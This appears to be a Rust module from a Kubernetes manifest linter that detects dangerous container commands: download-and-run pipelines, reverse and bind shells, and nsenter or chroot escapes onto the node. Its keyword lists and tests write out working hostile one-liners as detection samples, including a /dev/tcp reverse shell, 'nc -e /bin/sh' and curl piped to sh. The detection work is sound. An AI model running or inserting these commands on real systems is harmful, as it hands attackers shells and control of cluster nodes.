//! What is dangerous in a command line, whoever runs it.

use plimsoll_source::Value;

use crate::command::{Call, Program, SHELLS, Word, calls, mentions};

/// What a dangerous command does, and the word that tells.
pub(crate) struct Danger<'a> {
    /// The end of a message: what the container does.
    pub does: String,
    pub word: Word<'a>,
}

/// Without one of these in its words, a command is not read.
const TELLTALE: [&str; 10] =
    ["curl", "wget", "aria2c", "nc", "netcat", "socat", "/dev/tcp/", "/dev/udp/", "nsenter", "chroot"];

const DOWNLOADERS: [&str; 3] = ["aria2c", "curl", "wget"];
/// Programs that run what they read, other than shells.
const INTERPRETERS: [&str; 6] = ["node", "perl", "php", "python", "python3", "ruby"];
const NETCATS: [&str; 4] = ["nc", "ncat", "nc.traditional", "netcat"];
/// Programs that tell whether a file is the one that was meant.
const VERIFIERS: [&str; 9] =
    ["cosign", "gpg", "gpgv", "md5sum", "minisign", "sha1sum", "sha256sum", "sha512sum", "shasum"];
/// Downloads of one script that are kept in mind.
const DOWNLOADS: usize = 16;

/// The first danger in a command. `roots` are the places in the container at which the root of the node is mounted.
pub(crate) fn of<'a>(command: &[Value<'a>], roots: &[&str]) -> Option<Danger<'a>> {
    if !mentions(command, &TELLTALE) {
        return None;
    }
    calls(command).iter().find_map(|list| in_list(list, roots))
}

/// The first of some programs in a command.
pub(crate) fn unwanted<'a>(command: &[Value<'a>], programs: &[String]) -> Option<Danger<'a>> {
    if programs.is_empty() {
        return None;
    }
    let lists = calls(command);
    let mut words = lists.iter().flat_map(|list| named(list));
    let (name, word) = words.find(|(name, _)| programs.iter().any(|program| program == name))?;
    told(format!("runs `{name}`, which your settings name"), word)
}

/// The programs of some calls, those in substitutions included.
pub(crate) fn named<'c, 'a>(list: &'c [Call<'a>]) -> Vec<(&'c str, &'c Word<'a>)> {
    let mut found = Vec::new();
    for call in list {
        found.extend(call.programs().map(|program| (program.name, program.word)));
        found.extend(named(&call.inner));
    }
    found
}

fn in_list<'a>(list: &[Call<'a>], roots: &[&str]) -> Option<Danger<'a>> {
    let mut downloads: Vec<&str> = Vec::new();
    // What the pipeline begins with, so far.
    let (mut downloader, mut shell) = (None, false);
    for call in list {
        if !call.piped {
            (downloader, shell) = (None, false);
        }
        for program in call.programs() {
            let reads = reads_input(&program);
            let from_net = if reads { downloader } else { None };
            let inner = || runs_substitution(&program).then(|| call.inner.iter().find_map(downloads_with)).flatten();
            if let Some(name) = from_net.or_else(inner) {
                return told(format!("runs what `{name}` downloads"), program.word);
            }
            if let Some(file) = downloads.iter().find(|file| runs_file(&program, file)) {
                return told(format!("runs `{file}`, which it has downloaded"), program.word);
            }
            if VERIFIERS.contains(&program.name) {
                downloads.clear();
            }
            if let Some(danger) = alone(&program, call, shell, roots) {
                return Some(danger);
            }
            if DOWNLOADERS.contains(&program.name) {
                downloader = Some(program.name);
                downloads.extend(target(&program).filter(|_| downloads.len() < DOWNLOADS));
            }
            shell |= reads && SHELLS.contains(&program.name);
        }
        if let Some(danger) = in_list(&call.inner, roots) {
            return Some(danger);
        }
    }
    None
}

fn told<'a>(does: String, word: &Word<'a>) -> Option<Danger<'a>> {
    Some(Danger { does, word: word.clone() })
}

/// What is dangerous whatever stands before it.
fn alone<'a>(program: &Program<'_, 'a>, call: &Call<'a>, after_shell: bool, roots: &[&str]) -> Option<Danger<'a>> {
    let arguments = || program.arguments.iter().map(|word| word.text.as_ref());
    let is_net = |file: &Word<'_>| file.text.starts_with("/dev/tcp/") || file.text.starts_with("/dev/udp/");
    let shell_on_net = match program.name {
        name if SHELLS.contains(&name) => call.files.iter().any(is_net),
        name if NETCATS.contains(&name) => {
            (after_shell && call.piped) || arguments().any(|word| runs_program(name, word))
        }
        "socat" => arguments().any(|word| {
            let word = word.get(..7).unwrap_or(word).to_ascii_lowercase();
            word.starts_with("exec:") || word.starts_with("system:")
        }),
        _ => false,
    };
    if shell_on_net {
        return told("gives a shell to the network".to_owned(), program.word);
    }
    match program.name {
        "nsenter" if enters_first(program) => {
            told("enters the namespaces of the node's first process".to_owned(), program.word)
        }
        "chroot" => {
            let root = arguments().find(|word| !word.starts_with('-'))?;
            let root = root.trim_end_matches('/');
            let is_node = roots.iter().any(|known| known.trim_end_matches('/') == root);
            is_node.then(|| told(format!("takes `{root}`, the root of the node, for its own"), program.word))?
        }
        _ => None,
    }
}

/// Whether netcat is told to run a program for whoever connects.
fn runs_program(netcat: &str, word: &str) -> bool {
    match word.strip_prefix("--") {
        Some(long) => matches!(long, "exec" | "sh-exec" | "lua-exec"),
        None => {
            word.strip_prefix('-').is_some_and(|letters| letters.contains('e') || (netcat == "ncat" && letters == "c"))
        }
    }
}

/// Whether the target of `nsenter` is process 1, which is the node's where the Pod sees the node's processes.
fn enters_first(program: &Program<'_, '_>) -> bool {
    let mut words = program.arguments.iter().map(|word| word.text.as_ref());
    let is_option =
        |word: &&str| word.starts_with('-') && *word != "--" || word.bytes().all(|byte| byte.is_ascii_digit());
    while let Some(word) = words.next().filter(is_option) {
        let target = match word {
            "--target" => words.next(),
            word if word.starts_with("--") => word.strip_prefix("--target="),
            word => match word.strip_prefix('-').and_then(|letters| letters.split_once('t')) {
                Some((_, "")) => words.next(),
                Some((_, number)) => Some(number),
                None => None,
            },
        };
        if target == Some("1") {
            return true;
        }
    }
    false
}

/// Whether a shell or another interpreter takes its program from standard input.
fn reads_input(program: &Program<'_, '_>) -> bool {
    let mut arguments = program.arguments.iter().map(|word| word.text.as_ref());
    if SHELLS.contains(&program.name) {
        let from_input = |word: &str| word == "-" || word == "-s";
        return program.script().is_none()
            && (arguments.clone().any(from_input) || arguments.all(|word| word.starts_with(['-', '+'])));
    }
    INTERPRETERS.contains(&program.name) && arguments.next().is_none_or(|first| first == "-")
}

/// Whether what a substitution prints is run: `sh -c "$(…)"`, `eval "$(…)"`, `source <(…)`.
fn runs_substitution(program: &Program<'_, '_>) -> bool {
    let is_shell = || {
        let alone = |word: &Word<'_>| word.text.is_empty() || word.text.starts_with('-');
        match program.script() {
            Some(script) => script.text.trim().is_empty(),
            None => program.arguments.iter().all(alone),
        }
    };
    matches!(program.name, "eval" | "source" | ".") || (SHELLS.contains(&program.name) && is_shell())
}

fn downloads_with<'c>(call: &'c Call<'_>) -> Option<&'c str> {
    call.programs().map(|program| program.name).find(|name| DOWNLOADERS.contains(name))
}

/// The file that a download goes to.
fn target<'c>(program: &Program<'c, '_>) -> Option<&'c str> {
    let option = if program.name == "wget" { 'O' } else { 'o' };
    let mut words = program.arguments.iter().map(|word| word.text.as_ref());
    let named = words.find(|word| word.starts_with('-') && !word.starts_with("--") && word.ends_with(option));
    let long = || {
        program
            .arguments
            .iter()
            .find_map(|word| word.text.strip_prefix("--output=").or(word.text.strip_prefix("--output-document=")))
    };
    named.and_then(|_| words.next()).or_else(long).filter(|file| *file != "-" && !file.is_empty())
}

/// Whether a file is run, by its name or by an interpreter.
fn runs_file(program: &Program<'_, '_>, file: &str) -> bool {
    let is_file = |word: &str| word == file || (word.strip_prefix("./").is_some_and(|word| word == file));
    let interprets = SHELLS.contains(&program.name)
        || INTERPRETERS.contains(&program.name)
        || matches!(program.name, "source" | ".");
    let operand = || program.arguments.iter().find(|word| !word.text.starts_with('-'));
    is_file(&program.word.text) || (interprets && operand().is_some_and(|word| is_file(&word.text)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::file;

    fn danger(script: &str) -> Option<String> {
        let text = format!("[sh, -c, {}]", quoted(script));
        let file = file("a.yaml", &text);
        let command: Vec<_> = file.root(0).unwrap().items().collect();
        of(&command, &["/host/"]).map(|danger| format!("{} {}", danger.word.text, danger.does))
    }

    fn quoted(script: &str) -> String {
        format!("'{}'", script.replace('\'', "''"))
    }

    #[test]
    fn what_is_downloaded_and_run_at_once() {
        for script in [
            "curl -fsSL https://example.com/x | sh",
            "set -e; wget -qO- https://example.com/x | sudo -E bash -s -- --yes",
            "curl https://example.com/x | gunzip | python3 -",
            "bash <(curl -s https://example.com/x)",
            "sh -c \"$(curl -fsSL https://example.com/x)\"",
            "eval \"`wget -O - https://example.com/x`\"",
            ". <(curl https://example.com/x)",
            "curl -o /tmp/x https://example.com/x && chmod +x /tmp/x && /tmp/x --yes",
            "wget -O x.sh https://example.com/x; sh -x ./x.sh",
            "x=$(curl https://example.com/x | bash)",
        ] {
            assert!(danger(script).is_some_and(|danger| danger.contains("download")), "{script}: {:?}", danger(script));
        }
    }

    #[test]
    fn shells_on_the_network() {
        for script in [
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc -lvp 4444 -e /bin/sh",
            "ncat -l 4444 --sh-exec bash",
            "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
            "mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 4444 > f",
        ] {
            assert!(danger(script).is_some_and(|danger| danger.contains("network")), "{script}: {:?}", danger(script));
        }
    }

    #[test]
    fn ways_into_the_node() {
        for script in [
            "nsenter -t 1 -m -u -- ls",
            "nsenter --target=1 --mount sh",
            "sudo nsenter -at1 sh",
            "nsenter -S 0 --target 1 -a",
            "chroot /host ls",
        ] {
            assert!(danger(script).is_some_and(|danger| danger.contains("node")), "{script}: {:?}", danger(script));
        }
    }

    #[test]
    fn what_only_looks_like_it() {
        for script in [
            "curl -s http://localhost/health | python3 -c \"import json\"",
            "curl -fsS http://localhost:8080/ready",
            "curl -o /tmp/x https://example.com/x && sha256sum -c x.sum && /tmp/x",
            "wget -q https://example.com/data.csv | tee log",
            "until nc -z db 5432; do sleep 1; done; exec app",
            "timeout 1 bash -c \"</dev/tcp/db/5432\"",
            "exec 3<>/dev/tcp/127.0.0.1/9000; echo ok >&3",
            "echo \"curl https://example.com/x | sh\"",
            "cat <<E > x.sh\ncurl https://example.com/x | sh\nE",
            "# curl https://example.com/x | sh\ntrue",
            "nsenter -t 100 -n ip addr",
            "nsenter ip netns exec -t 1",
            "chroot /srv/jail app; curl x; sh run.sh",
            "curl https://example.com/x -o - | jq .",
        ] {
            assert_eq!(danger(script), None, "{script}");
        }
    }

    #[test]
    fn long_chains_of_programs_end() {
        for part in
            ["nsenter -m ", "sudo ", "chroot / ", "curl -o x x;", "curl x | ", "nc | ", "sh -c '", "eval \"$(curl "]
        {
            drop(danger(&part.repeat(20_000)));
        }
    }
}
